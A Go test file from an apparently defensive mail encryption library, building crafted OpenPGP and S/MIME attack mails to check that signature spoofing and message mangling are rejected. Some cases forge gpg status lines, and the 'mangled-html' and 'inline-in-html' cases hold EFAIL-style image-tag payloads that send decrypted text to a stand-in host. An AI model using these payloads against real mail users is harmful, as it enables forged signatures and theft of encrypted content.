package mail_test

import (
	"strings"

	"github.com/doublekeybox/doublekeybox/envelope"
)

// pgpOpaque is a message of OpenPGP that is signed and not encrypted, binary.
func pgpOpaque(content string, by ...*someone) []byte {
	s := &envelope.Sealer{Signers: signersOf("pgp", by...)}
	return through(content, s.Sign)
}

// cleartextSigned is a cleartext signed message (RFC 9580, Section 7), whose header
// lines are given.
func cleartextSigned(headers, content string, by ...*someone) string {
	s := &envelope.Sealer{Signers: signersOf("pgp", by...), Text: true}
	// The line end before the signature is not of the text.
	sig := through(strings.TrimSuffix(content, "\r\n"), s.SignDetached)
	return "-----BEGIN PGP SIGNED MESSAGE-----\r\n" + headers + "\r\n" + content + armored("SIGNATURE", sig)
}

// body is a mail of one text, as it is.
func body(s string) string { return header + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + s }

// inline is an attack by a block of OpenPGP in a text. Its twin is the same
// text, signed as a whole by PGP/MIME: of a block in a text nobody can say that
// it is the mail (RFC 9787, Section 2.2.3 knows no such envelope).
func inline(name string, build func(c *cast) string) attack {
	return attack{name: name, only: "pgp", mail: func(c *cast, f string, attacks bool) string {
		b := build(c)
		if attacks {
			return body(b)
		}
		return header + signed(f, plain(strings.ReplaceAll(strings.TrimSuffix(b, "\r\n"), "\r\n-----", "\r\n- -----")), c.alice)
	}}
}

// pgpAttack is an attack on the OpenPGP message inside a multipart/encrypted.
func pgpAttack(name string, build func(c *cast, good []byte) []byte) attack {
	return attack{name: name, only: "pgp", mail: func(c *cast, f string, attacks bool) string {
		m := sealedBytes(f, envelope.Compatible, plain(secret), []*someone{c.alice}, c.bob)
		if attacks {
			m = build(c, m)
		}
		return header + sealedPart(f, m)
	}}
}

// loose is an attack by the signature part of a multipart/signed.
func loose(name string, sig func(c *cast, entity string) (shown, second string)) attack {
	return attack{name: name, only: "pgp", mail: func(c *cast, f string, attacks bool) string {
		entity := plain(genuine)
		if !attacks {
			return header + signed(f, entity, c.alice)
		}
		shown, second := sig(c, entity)
		return header + signedType(f, "signed-outside") + "\r\n" + delimited("signed-outside", shown, second)
	}}
}

// mangled is an encrypted mail as Exchange leaves it, with more in it than that:
// only where nothing else is there is it taken for the whole.
func mangled(name, first string, more []string) attack {
	return attack{name: name, only: "pgp", mail: func(c *cast, f string, attacks bool) string {
		m := sealedBytes(f, envelope.Compatible, plain(secret), []*someone{c.alice}, c.bob)
		parts := []string{plain(""), "Content-Type: application/pgp-encrypted; name=\"PGPMIME version identification\"\r\n\r\nVersion: 1\r\n",
			"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + armored("MESSAGE", m)}
		if attacks {
			parts[0] = first
			parts = append(parts, more...)
		}
		return header + multipartOf("mixed", "out", parts...)
	}}
}

// What was published of the grammar of messages and of the interface of gpg:
// "Johnny, you are fired!", Section 4.2; CVE-2025-47934, CVE-2023-41037,
// CVE-2018-12020, CVE-2006-0049.
func pgpAttacks() []attack {
	status := "\n[GNUPG:] GOODSIG 0123456789ABCDEF Alice <" + aliceAddress + ">\n[GNUPG:] VALIDSIG 0123456789ABCDEF0123456789ABCDEF01234567"
	part := func(armor string) string { return "Content-Type: application/pgp-signature\r\n\r\n" + armor }
	damaged := func(sig []byte) []byte { sig[len(sig)-1] ^= 1; return sig }
	return []attack{
		pgpAttack("pgp-literal-only", func(*cast, []byte) []byte { return literal("", plain(foreign)).bytes() }),
		pgpAttack("pgp-literal-status-name", func(*cast, []byte) []byte { return literal(status[:100], plain(foreign)).bytes() }),
		pgpAttack("pgp-signed-only", func(c *cast, _ []byte) []byte { return pgpOpaque(plain(foreign), c.eve) }),
		pgpAttack("pgp-signed-only-by-alice", func(c *cast, _ []byte) []byte { return pgpOpaque(plain(genuine), c.alice) }),
		pgpAttack("pgp-literal-before", func(_ *cast, good []byte) []byte { return append(literal("", plain(foreign)).bytes(), good...) }),
		pgpAttack("pgp-literal-after", func(_ *cast, good []byte) []byte { return append(good, literal("", plain(foreign)).bytes()...) }),
		pgpAttack("pgp-two-messages", func(c *cast, good []byte) []byte {
			return append(sealedBytes("pgp", envelope.Compatible, plain(foreign), nil, c.bob), good...)
		}),
		pgpAttack("pgp-message-behind", func(c *cast, good []byte) []byte {
			return append(good, sealedBytes("pgp", envelope.Compatible, plain(foreign), nil, c.bob)...)
		}),
		pgpAttack("pgp-signature-behind", func(c *cast, _ []byte) []byte {
			m := sealedBytes("pgp", envelope.Compatible, plain(foreign), nil, c.bob)
			return append(m, detached("pgp", plain(foreign), c.alice)...)
		}),
		pgpAttack("pgp-session-key-of-other", func(c *cast, good []byte) []byte {
			other := packets(sealedBytes("pgp", envelope.Compatible, plain(foreign), nil, c.bob))
			all := packets(good)
			return joined(append(other[:len(other)-1], all[len(all)-1]))
		}),
		pgpAttack("pgp-not-signed", func(c *cast, _ []byte) []byte {
			return sealedBytes("pgp", envelope.Compatible, plain(foreign), nil, c.bob)
		}),
		pgpAttack("pgp-signed-by-eve", func(c *cast, _ []byte) []byte {
			return sealedBytes("pgp", envelope.Compatible, plain(foreign), []*someone{c.eve}, c.bob)
		}),
		{name: "pgp-two-armors", only: "pgp", mail: func(c *cast, f string, attacks bool) string {
			good := armored("MESSAGE", sealedBytes(f, envelope.Compatible, plain(secret), []*someone{c.alice}, c.bob))
			if attacks {
				good += armored("MESSAGE", sealedBytes(f, envelope.Compatible, plain(foreign), nil, c.bob))
			}
			return header + encryptedWith("out", "Content-Type: application/octet-stream\r\n\r\n"+good)
		}},
		{name: "pgp-three-parts", only: "pgp", mail: func(c *cast, f string, attacks bool) string {
			parts := []string{"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
				"Content-Type: application/octet-stream\r\n\r\n" + armored("MESSAGE", sealedBytes(f, envelope.Compatible, plain(secret), []*someone{c.alice}, c.bob))}
			if attacks {
				parts = append(parts, plain(foreign))
			}
			return header + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"out\"\r\n\r\n" + delimited("out", parts...)
		}},
		mangled("mangled-text", plain(foreign), nil),
		mangled("mangled-html", page(`<img src="http://example.net/`+foreign+`?`), nil),
		mangled("mangled-hidden", page("<!-- "+foreign+" -->"), nil),
		mangled("mangled-more", plain(""), []string{plain(foreign)}),
		mangled("mangled-attached", plain(""), []string{"Content-Disposition: attachment; filename=a.txt\r\n" + plain(foreign)}),
		loose("pgp-signature-empty", func(_ *cast, entity string) (string, string) { return entity, part("") }),
		loose("pgp-signature-damaged", func(c *cast, entity string) (string, string) {
			return entity, signaturePart("pgp", damaged(detached("pgp", entity, c.alice)))
		}),
		loose("pgp-signature-of-other-text", func(c *cast, entity string) (string, string) {
			return plain(foreign), signaturePart("pgp", detached("pgp", entity, c.alice))
		}),
		loose("pgp-bad-and-good", func(c *cast, entity string) (string, string) {
			return entity, signaturePart("pgp", append(damaged(detached("pgp", entity, c.alice)), detached("pgp", entity, c.alice)...))
		}),
		loose("pgp-whole-message-as-signature", func(c *cast, entity string) (string, string) {
			return plain(foreign), part(armored("MESSAGE", pgpOpaque(entity, c.alice)))
		}),
		loose("pgp-cleartext-as-signature", func(c *cast, entity string) (string, string) {
			return plain(foreign), part(cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice))
		}),
		loose("pgp-text-beside-signature", func(c *cast, entity string) (string, string) {
			return plain(foreign), part("[GNUPG:] GOODSIG 0123456789ABCDEF Alice\r\n[GNUPG:] VALIDSIG 0\r\n" + armored("SIGNATURE", detached("pgp", entity, c.alice)))
		}),
		loose("pgp-signed-by-stranger", func(c *cast, entity string) (string, string) {
			return plain(foreign), signaturePart("pgp", detached("pgp", plain(foreign), c.carol))
		}),
		loose("pgp-signature-as-page", func(c *cast, entity string) (string, string) {
			sig := strings.Replace(armored("SIGNATURE", detached("pgp", entity, c.alice)), "-----\r\n\r\n", "-----\r\nComment: <b>"+foreign+"</b>\r\n\r\n", 1)
			return entity, "Content-Type: text/html\r\n\r\n" + sig
		}),
		{name: "smime-signature-as-page", only: "smime", mail: func(c *cast, f string, attacks bool) string {
			sig := signaturePart(f, detached(f, plain(genuine), c.alice))
			if attacks {
				sig = strings.Replace(sig, "application/pkcs7-signature; name=smime.p7s", "text/html", 1)
			}
			return header + signedType(f, "out") + "\r\n" + delimited("out", plain(genuine), sig)
		}},
		{name: "pgp-sealed-as-page", only: "pgp", mail: func(c *cast, f string, attacks bool) string {
			part := "Content-Type: application/octet-stream\r\n\r\n" + armored("MESSAGE", sealedBytes(f, envelope.Modern, plain(secret), []*someone{c.alice}, c.bob))
			if attacks {
				part = strings.Replace(strings.Replace(part, "application/octet-stream", "text/html", 1), "-----\r\n\r\n", "-----\r\nComment: <b>"+foreign+"</b>\r\n\r\n", 1)
			}
			return header + encryptedWith("out", part)
		}},
		inline("inline-alone", func(c *cast) string { return cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice) }),
		inline("inline-signed-around", func(c *cast) string {
			return foreign + "\r\n" + cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice) + foreign + "\r\n"
		}),
		inline("inline-signed-before", func(c *cast) string {
			return foreign + "\r\n" + cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice)
		}),
		inline("inline-signed-after", func(c *cast) string {
			return cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice) + foreign + "\r\n"
		}),
		inline("inline-header-text", func(c *cast) string {
			return cleartextSigned("Hash: SHA512\r\nComment: "+foreign+"\r\n", genuine+"\r\n", c.alice)
		}),
		inline("inline-header-blank", func(c *cast) string {
			return cleartextSigned("Hash: SHA512\r\n\f\r\n"+foreign+"\r\n", genuine+"\r\n", c.alice)
		}),
		inline("inline-two-signers", func(c *cast) string {
			return cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice) + cleartextSigned("Hash: SHA512\r\n", foreign+"\r\n", c.eve)
		}),
		inline("inline-no-signature", func(c *cast) string {
			return "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA512\r\n\r\n" + foreign + "\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\n-----END PGP SIGNATURE-----\r\n"
		}),
		inline("inline-sealed-around", func(c *cast) string {
			return foreign + "\r\n" + armored("MESSAGE", sealedBytes("pgp", envelope.Compatible, secret+"\r\n", []*someone{c.alice}, c.bob)) + foreign + "\r\n"
		}),
		inline("inline-two-sealed", func(c *cast) string {
			return armored("MESSAGE", sealedBytes("pgp", envelope.Compatible, foreign+"\r\n", nil, c.bob)) +
				armored("MESSAGE", sealedBytes("pgp", envelope.Compatible, secret+"\r\n", []*someone{c.alice}, c.bob))
		}),
		inline("inline-literal-before-signed", func(c *cast) string {
			return armored("MESSAGE", append(literal("", foreign).bytes(), pgpOpaque(genuine, c.alice)...))
		}),
		inline("inline-quoted", func(c *cast) string {
			return foreign + "\r\n> " + strings.ReplaceAll(cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice), "\r\n", "\r\n> ") + "\r\n"
		}),
		{name: "inline-in-html", only: "pgp", mail: func(c *cast, f string, attacks bool) string {
			shown := "<img src=\"http://example.net/" + foreign + "?\r\n" + armored("MESSAGE", sealedBytes(f, envelope.Compatible, secret, []*someone{c.alice}, c.bob)) + "\">"
			if attacks {
				return header + page(shown)
			}
			return header + signed(f, page(strings.ReplaceAll(shown, "\r\n-----", "\r\n- -----")), c.alice)
		}},
		{name: "inline-in-mixed", only: "pgp", mail: func(c *cast, f string, attacks bool) string {
			mixed := multipartOf("mixed", "out", plain(cleartextSigned("Hash: SHA512\r\n", genuine+"\r\n", c.alice)), plain(foreign))
			if attacks {
				return header + mixed
			}
			return header + signed(f, mixed, c.alice)
		}},
	}
}
